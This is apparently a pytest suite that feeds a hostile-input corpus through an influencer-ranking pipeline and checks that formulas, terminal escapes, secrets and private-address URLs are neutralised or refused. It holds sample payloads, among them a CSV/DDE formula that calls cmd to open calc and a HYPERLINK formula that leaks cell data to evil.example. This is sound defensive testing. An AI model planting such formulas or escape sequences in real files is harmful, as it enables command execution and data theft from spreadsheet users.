"""The hostile-input corpus (issue 7): every case ends in its own specific, recorded outcome.

- Row cases (content files, local paths, URLs, scores) run TOGETHER through the real pipeline in
  one sheet with two good face videos: each ends as its ``rejected_rows`` reason or its
  partition's ``video_files`` error code, or ok with the properties it must have; the good
  videos get their influencer and the run completes (``slow``: one pipeline run, minutes).
- Sheet cases go through ``load_catalog``; two unusable sheets also through the CLI (exit 2).
- Network responses go through ``fetch_to_file`` against a misbehaving local server.
- What a person is shown (issue 14, ``hostile/shown.py``): after the corpus run, no lake error,
  Dagster event, terminal line or report cell (written by ``influencer-pipeline report``) holds
  an unprintable character, a planted secret or a local file's content, and no CSV/XLSX cell is
  a formula; local text files are named, never quoted; downloads used the full signed URL;
  tiny clips are no outro card.

The cases and their expected outcomes are the tables in ``hostile/corpus.py``.
"""

from __future__ import annotations

import csv
import hashlib
import os
import re
import subprocess
import sys
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path

import pyarrow.parquet as pq
import pytest

from influencer_pipeline.catalog.build import load_catalog
from influencer_pipeline.catalog.sheets import SheetError
from influencer_pipeline.media import address_guard
from influencer_pipeline.media.errors import MediaError, is_known_code
from influencer_pipeline.media.fetch import FetchPolicy, fetch_to_file
from influencer_pipeline.summary import print_summary
from influencer_pipeline_tests.hostile import media
from influencer_pipeline_tests.hostile.corpus import (
    CLI_CASES,
    DRIP_TOTAL,
    FAST,
    FETCH_CASES,
    GOOD_VIDEOS,
    ROW_CASES,
    SHEET_CASES,
    Failed,
    FetchCase,
    Loads,
    Ok,
    Rejected,
    RowCase,
    SheetCase,
    SheetFails,
    Where,
)
from influencer_pipeline_tests.hostile.pipeline import CorpusRun, shared_corpus_run
from influencer_pipeline_tests.hostile.server import HostileServer, serve
from influencer_pipeline_tests.hostile.shown import (
    BASIC_PASSWORD,
    ESCAPES,
    FORMULAS,
    OPEN_SERVER,
    SHOWN_ROW_CASES,
    SIGNATURE,
    TEXT_FILES,
    TINY_CASES,
    WORKSHEETS_NAMED,
    leaks,
)
from influencer_pipeline_tests.hostile.shown_checks import (
    event_log_strings,
    lake_problems,
    problems,
    report_problems,
)

PROJECT = Path(__file__).resolve().parents[2]


def test_the_corpus_is_big_and_its_ids_are_unique() -> None:
    ids = [c.id for c in ROW_CASES] + [c.id for c in SHEET_CASES] + [c.id for c in FETCH_CASES]
    assert len(ids) == len(set(ids))
    assert len(ids) >= 30
    kinds = {type(c.expect) for c in ROW_CASES} | {type(c.expect) for c in SHEET_CASES}
    assert kinds == {Rejected, Failed, Ok, SheetFails, Loads}


# --- rows through the whole pipeline -----------------------------------------------------------


@pytest.fixture(scope="module")
def corpus(tmp_path_factory: pytest.TempPathFactory) -> CorpusRun:
    return shared_corpus_run(tmp_path_factory)


@pytest.mark.slow
@pytest.mark.parametrize("case", ROW_CASES, ids=lambda c: c.id)
def test_row_ends_in_its_outcome(corpus: CorpusRun, case: RowCase) -> None:
    row = corpus.row_of[case.id]
    video = corpus.video_of_row(row)
    expect = case.expect
    if isinstance(expect, Rejected):
        assert video is None, "a rejected row must not become a video"
        rejected = corpus.table("rejected_rows")
        found = rejected[rejected["source_row"] == row]
        assert found["reason_code"].tolist() == [expect.reason_code]
        assert f"row {row}: " in found["reason"].iloc[0]  # a sentence that says which row
        return
    assert video is not None, "the row must become a video partition"
    files = corpus.partition("video_files", video)
    assert len(files) == 1
    record = files.iloc[0]
    influencer = corpus.partition("video_influencers", video).iloc[0]
    if isinstance(expect, Failed):
        assert (record["status"], record["error_code"]) == ("failed", expect.error_code)
        assert is_known_code(record["error_code"]) and len(record["error"]) > 20
        assert influencer["status"] == "failed" and influencer["error"] == record["error"]
        assert influencer["influencer_id"] is None
        assert corpus.partition("video_frames", video).empty
        return
    assert (record["status"], record["error_code"], record["error"]) == ("ok", None, None)
    assert influencer["status"] == "ok" and influencer["influencer_id"]
    if expect.check is not None:
        expect.check(record, corpus.partition("video_frames", video))


@pytest.mark.slow
def test_good_videos_are_ok_each_with_its_face_influencer(corpus: CorpusRun) -> None:
    influencers = []
    for person in GOOD_VIDEOS:
        video = corpus.video_of_row(corpus.row_of[person])
        assert video is not None
        assert corpus.partition("video_files", video)["status"].tolist() == ["ok"]
        row = corpus.partition("video_influencers", video).iloc[0]
        assert (row["status"], row["method"]) == ("ok", "face"), person
        influencers.append(row["influencer_id"])
    assert len(set(influencers)) == len(GOOD_VIDEOS)  # two people, two influencers


@pytest.mark.slow
def test_the_run_completed_and_accounts_for_every_row(corpus: CorpusRun) -> None:
    assert len(corpus.report.run_ids) >= 3  # catalog, per-video range(s), cross-video
    catalog, rejected = corpus.table("video_catalog"), corpus.table("rejected_rows")
    rows = len(GOOD_VIDEOS) + len(ROW_CASES)
    assert int(catalog["n_rows"].sum()) + len(rejected) == rows
    influencers = corpus.table("video_influencers")
    assert sorted(influencers["video_id"]) == sorted(catalog["video_id"])
    assert (corpus.lake / "ranked_influencers.parquet").is_file()


@pytest.mark.slow
def test_no_refused_url_was_ever_requested(corpus: CorpusRun) -> None:
    """The default policy refused the loopback URLs before connecting: the server saw nothing."""
    assert sum(corpus.hits.values()) == 0, dict(corpus.hits)


@pytest.mark.slow
def test_every_ok_video_has_one_row_in_each_per_video_summary(corpus: CorpusRun) -> None:
    files = corpus.table("video_files")
    for video in files.loc[files["status"] == "ok", "video_id"]:
        assert len(corpus.partition("video_faces", video)) == 1, video
        assert len(corpus.partition("outro_fingerprints", video)) == 1, video


@pytest.mark.slow
def test_refused_files_never_reach_the_lake(corpus: CorpusRun) -> None:
    """Nothing outside the allowed folder was copied in, and no temp file was left behind."""
    blobs = [p for p in (corpus.lake / "video_blobs").rglob("*") if p.is_file()]
    stored = {p.name.split(".")[0] for p in blobs}
    outside = {hashlib.sha256(p.read_bytes()).hexdigest() for p in corpus.where.outside.iterdir()}
    assert outside and not stored & outside
    files = corpus.table("video_files")
    assert len(stored) == int((files["status"] == "ok").sum())  # all ok videos differ
    assert not [p for p in blobs if p.name.startswith(".") or p.suffix in (".part", ".tmp")]


# --- what a person is shown (issue 14) ---------------------------------------------------------


@pytest.mark.slow
def test_nothing_shown_is_unprintable_or_secret(corpus: CorpusRun, tmp_path: Path) -> None:
    """Lake errors, the Dagster event log, the terminal and the report files of the real run."""
    found = lake_problems(corpus.lake)
    found += problems(event_log_strings(corpus.dagster_home, corpus.report.run_ids), "event log")
    summary: list[str] = []
    print_summary(corpus.report, emit=summary.append)
    found += problems(corpus.log + summary, "terminal", lines=False)
    out = tmp_path / "report"
    command = [sys.executable, "-m", "influencer_pipeline.cli", "report", "--out", str(out)]
    done = subprocess.run(
        [*command, "--lake", str(corpus.lake)],
        check=False,
        cwd=PROJECT,
        capture_output=True,
        text=True,
        timeout=600,
    )
    assert done.returncode == 0, done.stderr[-3000:]
    found += problems([done.stdout, done.stderr], "report command")
    found += report_problems(out)
    assert not found, "\n".join(found[:30])


def _cli(env: dict[str, str], *args: object) -> subprocess.CompletedProcess[str]:
    command = [sys.executable, "-m", "influencer_pipeline.cli", *(str(a) for a in args)]
    return subprocess.run(
        command, check=False, cwd=PROJECT, env=env, capture_output=True, text=True, timeout=900
    )


@pytest.mark.slow
def test_cli_run_and_report_on_a_hostile_sheet_show_nothing_unsafe(tmp_path: Path) -> None:
    """``influencer-pipeline run`` on the good videos and every issue-14 row, then analysts'
    corrections (formula names and a formula id), ``run`` again and ``report``: exit 0 each, the
    good videos keep their own face influencer, and nothing unprintable, secret or live formula
    reaches the terminal, the lake's error columns, the Dagster event log or the report."""
    folder, lake, out = tmp_path / "sheet", tmp_path / "lake", tmp_path / "report"
    folder.mkdir()
    where = Where(folder, tmp_path, port=9, open_port=9)  # nothing listens; refused anyway
    rows = [(media.face_video(folder, p).name, f"0.{4 + 2 * i}") for i, p in enumerate(GOOD_VIDEOS)]
    rows += [(case.cell(where), case.score) for case in SHOWN_ROW_CASES]
    sheet = folder / "mixed.csv"
    with sheet.open("w", newline="", encoding="utf-8") as fh:
        csv.writer(fh).writerows([("Video URL", "Performance"), *rows])
    env = {k: v for k, v in os.environ.items() if not k.startswith(("INFLUENCER_", "DAGSTER_"))}
    env |= {"DAGSTER_HOME": str(tmp_path / "home"), "INFLUENCER_EMBEDDER": "dlib"}
    run = ("run", "--input", sheet, "--lake", lake, "--executor", "in_process")
    shown = [first := _cli(env, *run)]
    assert first.returncode == 0, first.stderr[-3000:]
    table = pq.read_table(lake / "video_influencers.parquet").to_pandas()
    good = [table[table["video_url"].str.endswith(f"/{p}.mp4")].iloc[0] for p in GOOD_VIDEOS]
    assert [(g["status"], g["method"]) for g in good] == [("ok", "face")] * len(GOOD_VIDEOS)
    assert len({g["influencer_id"] for g in good}) == len(GOOD_VIDEOS)
    tiny = table[table["video_url"].str.contains("tiny_")]["influencer_id"].iloc[0]
    corrections = [("rename", "", g["influencer_id"], "", FORMULAS[i] + ESCAPES["osc_title"], "")
                   for i, g in enumerate(good)]  # fmt: skip
    corrections.append(("merge", "", tiny, "@SUM(1+1)*cmd|' /C calc'!A0", "", "=1+1"))
    with (lake / "corrections.csv").open("w", newline="", encoding="utf-8") as fh:
        csv.writer(fh).writerows([("action", "video_id", "influencer_id", "into", "name", "note")])
        csv.writer(fh).writerows(corrections)
    shown.append(second := _cli(env, *run))
    assert second.returncode == 0, second.stderr[-3000:]
    shown.append(done := _cli(env, "report", "--lake", lake, "--out", out))
    assert done.returncode == 0, done.stderr[-3000:]
    found = problems([t for p in shown for t in (p.stdout, p.stderr)], "terminal")
    found += lake_problems(lake) + report_problems(out)
    found += problems(event_log_strings(tmp_path / "home"), "event log")
    assert not found, "\n".join(found[:30])
    page = (out / "leaderboard.html").read_text(encoding="utf-8")
    assert "=HYPERLINK(&quot;http://evil.example/?leak=&quot;&amp;A1" in page  # the name, as text


@pytest.mark.slow
@pytest.mark.parametrize("name", sorted(TEXT_FILES))
def test_local_text_files_are_named_never_quoted(corpus: CorpusRun, name: str) -> None:
    error = corpus.partition("video_files", corpus.video_of_row(corpus.row_of[f"text_file_{name}"]))
    message = error["error"].iloc[0]
    assert name in message and "is a text file" in message and "not shown" in message
    words = {w for w in re.split(r"[^A-Za-z0-9]+", TEXT_FILES[name].decode()) if len(w) >= 5}
    assert not [w for w in words if w.lower() in message.lower()], message


def _open_server_rows_were_refused(corpus: CorpusRun) -> bool:
    """Outside the in-process run the open server is unreachable (pipeline.py): then its rows
    must have been refused as private addresses, and there is nothing more to check."""
    if OPEN_SERVER:
        return False
    codes = corpus.table("video_files").set_index("video_id")["error_code"]
    assert codes[corpus.video_of_row(corpus.row_of["reason_phrase_0"])] == "private_address"
    return True


@pytest.mark.slow
def test_server_text_is_shown_escaped_title_only(corpus: CorpusRun) -> None:
    if _open_server_rows_were_refused(corpus):
        return

    def error(case: str) -> str:
        video = corpus.video_of_row(corpus.row_of[case])
        return corpus.partition("video_files", video)["error"].iloc[0]

    reason = error("reason_phrase_0")
    assert "HTTP 404 Not Found\\x1b]0;pwned\\x07" in reason and "token=***" in reason
    assert "page says 'Not here'" in reason
    assert "\\x9b31m" in error("reason_phrase_1")
    title = error("page_title_0")
    assert "Removed \\x1b[2J" in title and "sig=***" in title and "an HTML page" in title
    assert "\\u202eevil" in error("page_title_1")
    assert "jsonbody" not in error("json_error_body") and "bad key" not in error("json_error_body")
    assert "one-time code" not in error("plain_text_body")


@pytest.mark.slow
def test_downloads_use_the_full_url_that_only_the_lake_keeps(corpus: CorpusRun) -> None:
    if _open_server_rows_were_refused(corpus):
        return
    for case, secret in (
        ("signed_url_fetched_whole", SIGNATURE),
        ("userinfo_fetched_whole", BASIC_PASSWORD),
    ):
        video = corpus.video_of_row(corpus.row_of[case])
        assert corpus.partition("video_files", video)["status"].tolist() == ["ok"]
        assert secret in corpus.partition("video_influencers", video)["video_url"].iloc[0]


@pytest.mark.slow
def test_tiny_clips_are_no_outro_card(corpus: CorpusRun) -> None:
    influencers = set()
    for case in TINY_CASES:
        video = corpus.video_of_row(corpus.row_of[case])
        outro = corpus.partition("outro_fingerprints", video).iloc[0]
        # a 1x1 picture is also uniform: the frames stage may call it blank first
        codes = {"too_small", "all_blank"} if case == "tiny_1x1" else {"too_small"}
        assert not outro["has_card"] and outro["reason_code"] in codes, (case, outro["reason"])
        influencers.add(corpus.partition("video_influencers", video)["influencer_id"].iloc[0])
    assert len(influencers) == len(TINY_CASES)  # no card, so no shared outro group


# --- whole sheets ------------------------------------------------------------------------------


@pytest.mark.parametrize("case", SHEET_CASES, ids=lambda c: c.id)
def test_sheet_ends_in_its_outcome(tmp_path: Path, case: SheetCase) -> None:
    path = case.build(tmp_path)
    if isinstance(case.expect, SheetFails):
        with pytest.raises(SheetError) as info:
            load_catalog([path])
        assert info.value.code == case.expect.code
        message = str(info.value)
        assert path.name in message  # the message names the sheet
        assert message.isprintable() and not leaks(message), message  # issue 14
        if path.suffix == ".xlsx" and case.expect.code.startswith(("missing", "ambiguous")):
            assert "(worksheet '" in message or "worksheets" in message, message
        for worksheet in WORKSHEETS_NAMED.get(case.id, ()):
            assert worksheet in message, message
        return
    catalog, rejected = load_catalog([path])
    assert rejected["reason_code"].notna().all() and rejected["reason"].notna().all()
    case.expect.check(catalog, rejected)


@pytest.mark.slow
def test_cli_exits_2_with_a_clear_message_for_unusable_sheets(tmp_path: Path) -> None:
    """Each unusable sheet in its own CLI process (run side by side): exit 2, and the last line
    of stderr says what is wrong."""
    runs = []
    for i, (build, words) in enumerate(CLI_CASES):
        folder = tmp_path / f"cli{i}"
        folder.mkdir()
        sheet = build(folder)
        env = {**os.environ, "DAGSTER_HOME": str(folder / "home"), "INFLUENCER_EMBEDDER": "dlib"}
        env.pop("INFLUENCER_LAKE", None)
        command = [sys.executable, "-m", "influencer_pipeline.cli", "run", "--input", str(sheet)]
        command += ["--lake", str(folder / "lake")]
        process = subprocess.Popen(
            command, cwd=PROJECT, env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True
        )
        runs.append((sheet, words, process))
    for sheet, words, process in runs:
        out, err = process.communicate(timeout=600)
        last = err.strip().splitlines()[-1]
        assert process.returncode == 2, (sheet.name, out, err[-2000:])
        assert last.startswith("error: the input is unusable: "), last
        assert words in last and sheet.name in last, last
        assert not (sheet.parent / "lake" / "video_catalog.parquet").exists()


# --- network responses -------------------------------------------------------------------------


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[HostileServer]:
    video = media.one_frame(tmp_path_factory.mktemp("srv")).read_bytes()
    with serve(video) as httpd:
        yield httpd


@pytest.fixture()
def loopback_counts_as_public(monkeypatch: pytest.MonkeyPatch) -> None:
    """The seam for redirect tests: ``address_guard.is_public_address`` (looked up at each check)
    is made to call exactly 127.0.0.1 public, so the first hop reaches the local server while every
    other address - the redirect targets - is judged by the real rule."""
    real = address_guard.is_public_address

    def judged(address: object) -> bool:
        return str(address).split("%")[0] == "127.0.0.1" or real(address)  # type: ignore[arg-type]

    monkeypatch.setattr(address_guard, "is_public_address", judged)
    address_guard.clear_dns_cache()


@pytest.mark.usefixtures("loopback_counts_as_public")
def test_the_seam_lets_only_the_first_hop_through(server: HostileServer, tmp_path: Path) -> None:
    policy = replace(FetchPolicy(), **FAST)
    assert not policy.allow_private_networks
    result = fetch_to_file(f"{server.base}/video", tmp_path, policy)
    assert result.path.read_bytes() == server.video


@pytest.mark.usefixtures("loopback_counts_as_public")
@pytest.mark.parametrize("case", FETCH_CASES, ids=lambda c: c.id)
def test_response_ends_in_its_error(server: HostileServer, tmp_path: Path, case: FetchCase) -> None:
    policy = replace(FetchPolicy(), **{**FAST, **case.policy})  # type: ignore[arg-type]
    dest = tmp_path / "dest"
    with pytest.raises(MediaError) as info:
        fetch_to_file(f"{server.base}{case.route}", dest, policy)
    error = info.value
    assert error.code == case.code, error.message
    assert error.attempts == 1 and error.message
    assert not dest.exists() or not any(dest.iterdir())  # no partial file left behind
    if case.code == "timeout":  # stopped by the total time limit, long before the body ended
        assert "total time limit" in error.message
        received = int(error.message.rsplit("after ", 1)[1].split(" ")[0].replace(",", ""))
        assert received < DRIP_TOTAL / 2
